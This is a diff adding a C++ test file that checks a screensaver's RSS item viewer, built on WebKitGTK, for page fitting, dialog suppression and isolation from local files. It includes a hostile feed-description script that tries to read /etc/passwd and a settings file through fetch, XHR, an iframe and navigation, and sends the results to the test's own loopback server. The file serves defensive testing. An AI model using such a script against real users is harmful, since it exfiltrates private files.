@@ -1,0 +1,174 @@
+// The item viewer in a real feed window with a real WebKitGTK view under Xvfb: it fits
+// itself to a real page, and feed HTML that attacks the user's files gets nothing out,
+// told by what it manages to send to a loopback server of the test's own.
+#include <gtest/gtest.h>
+
+#include <sstream>
+#include <vector>
+
+#include "feeds/readers/TSimpleRSS.h"
+#include "feeds/viewer/FeedItemViewer.h"
+#include "platform/linux/gtk/GtkFeedWindow.h"
+#include "platform/linux/gtk/GtkTestEnvironment.h"
+#include "platform/linux/gtk/GtkWindowSystem.h"
+#include "support/FeedServer.h"
+#include "support/TempFolder.h"
+
+namespace saver {
+namespace {
+
+using test::RunUntil;
+
+const std::string kFeeds = std::string(SAVER_TEST_DATA) + "/feeds";
+
+std::string XmlText(const std::string& text) {
+    std::string escaped;
+    for (char c : text) {
+        escaped += c == '<' ? "&lt;" : c == '&' ? "&amp;" : std::string(1, c);
+    }
+    return escaped;
+}
+
+// A feed of one item per description.
+std::string Feed(const std::vector<std::string>& descriptions) {
+    std::string xml = "<rss><channel><title>Viewer</title>";
+    for (const std::string& description : descriptions) {
+        xml += "<item><title>Item</title><description>" + XmlText(description) +
+               "</description></item>";
+    }
+    return xml + "</channel></rss>";
+}
+
+class FeedItemViewerWindowTest : public ::testing::Test {
+  protected:
+    void SetUp() override {
+        ASSERT_FALSE(server_.BaseUrl().empty());
+        settings_.BlogShow = true;
+        settings_.BlogBlendValue = 250;
+        ticker_.right_edge = 449;
+        viewer_ = std::make_unique<FeedItemViewer>(ViewerEnvironment{
+            settings_, windows_, draw_, [] { return std::make_unique<GtkFeedWindow>(); },
+            folder_.Path(), folder_ / "rss_template.htm", nullptr});
+        viewer_->Attach(ticker_);
+    }
+
+    void Load(const std::vector<std::string>& descriptions) {
+        std::istringstream feed(Feed(descriptions));
+        rss_.LoadFromStream(feed);
+    }
+
+    // Shows item `index` and waits until the viewer fitted itself to it.
+    bool ShowAndFit(int index) {
+        const int fits = viewer_->Form() ? viewer_->Form()->FitCount() : 0;
+        viewer_->ShowItem(rss_, index);
+        return RunUntil([&] { return viewer_->Form()->FitCount() > fits; });
+    }
+
+    // The requests the page made, until one of `last` came.
+    std::vector<std::string> RequestsUntil(const std::string& last) {
+        std::vector<std::string> requests;
+        while (true) {
+            std::string request;
+            RunUntil([&] {
+                request = server_.NextRequest(10);
+                return !request.empty();
+            });
+            if (request.empty()) {
+                return requests;
+            }
+            requests.push_back(request);
+            if (request.starts_with(last)) {
+                return requests;
+            }
+        }
+    }
+
+    test::FeedServer server_{kFeeds};
+    test::TempFolder folder_;
+    TSaverSetting settings_;
+    GtkWindowSystem windows_;
+    RandomSource source_{11};
+    SourceDraw draw_{source_};
+    TickerShared ticker_;
+    TSimpleRSS rss_;
+    std::unique_ptr<FeedItemViewer> viewer_;
+};
+
+TEST_F(FeedItemViewerWindowTest, ShrinksToAShortPage) {
+    folder_.Write("rss_template.htm",
+                  "<body style=\"margin:0\"><div style=\"height:40px\">##title##</div></body>");
+    Load({"short"});
+    ASSERT_TRUE(ShowAndFit(0));
+    EXPECT_EQ(viewer_->Form()->Bounds().height, 40);
+    EXPECT_TRUE(viewer_->Form()->Window().Visible());
+}
+
+TEST_F(FeedItemViewerWindowTest, AlertsCloseThemselvesAndNoWindowOpens) {
+    const std::string report = server_.BaseUrl() + "report/";
+    Load({"<a id=\"l\" href=\"" + report +
+          "opened-link\" target=\"_blank\">new</a><script>"
+          "alert('hello'); confirm('sure?');"
+          "document.getElementById('l').click();"
+          "var w = window.open('" +
+          report +
+          "opened-script');"
+          "new Image().src = '" +
+          report +
+          "after-dialogs?' + (w === null);"
+          "</script>"});
+    viewer_->ShowItem(rss_, 0);
+    const std::vector<std::string> requests = RequestsUntil("/report/after-dialogs");
+    ASSERT_FALSE(requests.empty());
+    EXPECT_EQ(requests.back(), "/report/after-dialogs?true");
+    for (const std::string& request : requests) {
+        EXPECT_EQ(request.find("opened"), std::string::npos) << request;
+    }
+}
+
+// A description that tries every way to a local file it knows of and reports what it
+// read; then, after a try to leave the page for a local file, that it is still there.
+std::string HostileDescription(const std::string& report) {
+    return "<script>"
+           "var R = '" +
+           report +
+           "';"
+           "function send(tag, text) { new Image().src = R + tag + '?' +"
+           " encodeURIComponent(String(text).slice(0, 300)); }"
+           "send('alive', location.href);"
+           "fetch('file:///etc/passwd').then(r => r.text()).then(t => send('fetch', t),"
+           " e => send('refused-fetch', e));"
+           "try { var x = new XMLHttpRequest(); x.open('GET', 'settings.ini', false); x.send();"
+           " send('xhr', x.responseText); } catch (e) { send('refused-xhr', e); }"
+           "var a = new XMLHttpRequest(); a.open('GET', location.href.replace('tmp.htm',"
+           " 'settings.ini')); a.onload = () => send('xhr-async', a.responseText);"
+           " a.onerror = () => send('refused-xhr-async', ''); a.send();"
+           "var f = document.createElement('iframe'); f.src = 'file:///etc/passwd';"
+           "f.onload = () => { try { send('iframe', f.contentDocument.body.innerText); }"
+           " catch (e) { send('refused-iframe', e); } };"
+           "document.documentElement.appendChild(f);"
+           "try { send('open', String(window.open('file:///etc/passwd'))); }"
+           " catch (e) { send('refused-open', e); }"
+           "setTimeout(() => { location = 'file:///etc/passwd'; }, 500);"
+           "setTimeout(() => send('still-here', location.href), 1500);"
+           "</script>";
+}
+
+TEST_F(FeedItemViewerWindowTest, FeedHtmlReadsNoLocalFileAndTheViewerGoesOn) {
+    folder_.Write("settings.ini", "[Set]\nScrName=SECRET-SETTING\n");
+    Load({HostileDescription(server_.BaseUrl() + "report/"), "<p>Next item</p>"});
+    viewer_->ShowItem(rss_, 0);
+    const std::vector<std::string> requests = RequestsUntil("/report/still-here");
+    ASSERT_FALSE(requests.empty());
+    EXPECT_TRUE(requests.front().starts_with("/report/alive")) << "the page's script ran";
+    EXPECT_TRUE(requests.back().starts_with("/report/still-here")) << "it never left its page";
+    EXPECT_NE(requests.back().find("tmp.htm"), std::string::npos) << requests.back();
+    for (const std::string& request : requests) {
+        EXPECT_EQ(request.find("root"), std::string::npos) << request;
+        EXPECT_EQ(request.find("SECRET"), std::string::npos) << request;
+    }
+    // The viewer goes on with the next item.
+    ASSERT_TRUE(ShowAndFit(1));
+}
+
+}  // namespace
+}  // namespace saver
